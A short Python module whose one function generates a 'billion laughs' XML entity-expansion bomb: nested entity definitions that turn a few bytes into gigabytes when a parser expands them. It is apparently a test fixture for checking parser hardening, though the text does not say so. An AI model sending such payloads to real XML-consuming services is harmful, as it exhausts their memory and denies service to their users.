"""XML whose entities refer to one another, so that few bytes expand to gigabytes."""


def entity_bomb(levels: int = 10) -> bytes:
    """Ten to the power of ``levels`` times a few letters."""
    entities = ['<!ENTITY a0 "bomb bomb bomb">']
    for level in range(1, levels):
        inner = f"&a{level - 1};" * 10
        entities.append(f'<!ENTITY a{level} "{inner}">')
    return f"<!DOCTYPE x [{''.join(entities)}]><x>&a{levels - 1};</x>".encode()
